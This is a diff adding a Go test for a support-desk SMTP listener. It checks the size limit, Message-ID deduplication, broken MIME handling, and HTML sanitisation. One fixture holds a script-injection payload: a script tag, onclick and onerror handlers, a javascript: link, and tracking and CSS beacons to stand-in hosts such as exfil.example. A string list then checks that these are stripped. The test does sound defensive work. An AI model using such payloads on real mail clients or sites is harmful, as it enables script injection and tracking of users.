@@ -220,3 +220,76 @@ x
 }
 
 func ptr[T any](v T) *T { return &v }
+
+// Hostile and broken mail through the listener: a mail over the size
+// limit is refused (552) and leaves nothing; an HTML-only mail with
+// scripts, event handlers and remote images is stored sanitised; a mail
+// without a Message-ID delivered twice lands once; broken MIME still
+// opens a ticket; and the mailbox keeps flowing after each.
+func TestHostileMailThroughSMTP(t *testing.T) {
+	testdb.Each(t, func(t *testing.T, db testdb.DB) {
+		m := newMailDesk(t, db)
+		big := "From: a@example.com\nTo: supporto@bottega.example\nSubject: enorme\nMessage-ID: <big@example.com>\n\n" + strings.Repeat("x", 36<<20) + "\n"
+		// The listener answers 552 and hangs up; a client still writing
+		// may see the reset first. Either way nothing is stored.
+		if err := m.send(t, "a@example.com", []string{"supporto@bottega.example"}, big); err == nil {
+			t.Error("a mail over --smtp-max-mb was accepted")
+		}
+		if n := len(m.tickets(t)); n != 0 {
+			t.Fatalf("a refused mail opened %d tickets", n)
+		}
+		evil := `From: Troll <troll@example.com>
+To: supporto@bottega.example
+Subject: Offerta
+Message-ID: <evil@example.com>
+MIME-Version: 1.0
+Content-Type: text/html; charset=UTF-8
+
+<p onclick="steal()">Ciao</p><script>alert(1)</script><img src="https://tracker.example/p.gif" onerror="x()"><style>body{background:url(https://exfil.example/?c=1)}</style><a href="javascript:alert(2)">clic</a>
+`
+		noID := `From: Senza Id <senzaid@example.com>
+To: supporto@bottega.example
+Subject: Nessun Message-ID
+
+Questo messaggio non ha un Message-ID.
+`
+		broken := `From: Rotto <rotto@example.com>
+To: supporto@bottega.example
+Subject: MIME rotto
+Message-ID: <broken@example.com>
+MIME-Version: 1.0
+Content-Type: multipart/mixed; boundary="X"
+
+--X
+Content-Type: text/plain
+
+testo leggibile
+--X
+Content-Type: application/pdf; name="a.pdf"
+Content-Transfer-Encoding: base64
+
+!!!non base64!!!
+`
+		for _, raw := range []string{evil, noID, noID, broken} {
+			if err := m.send(t, "x@example.com", []string{"supporto@bottega.example"}, raw); err != nil {
+				t.Fatal(err)
+			}
+		}
+		ts := m.tickets(t)
+		if len(ts) != 3 {
+			t.Fatalf("%d tickets, want 3 (the evil one, the one without id once, the broken one)", len(ts))
+		}
+		html := m.thread(t, ts[0].ID)[0].BodyHTML
+		for _, bad := range []string{"<script", "onclick", "onerror", `href="javascript:`, "tracker.example", "exfil.example", "<style"} {
+			if strings.Contains(strings.ToLower(html), bad) {
+				t.Errorf("the stored HTML keeps %q: %s", bad, html)
+			}
+		}
+		if !strings.Contains(html, "Ciao") {
+			t.Errorf("the stored HTML lost the text: %s", html)
+		}
+		if th := m.thread(t, ts[2].ID); !strings.Contains(th[0].BodyText, "testo leggibile") {
+			t.Errorf("broken MIME: %+v", th)
+		}
+	})
+}
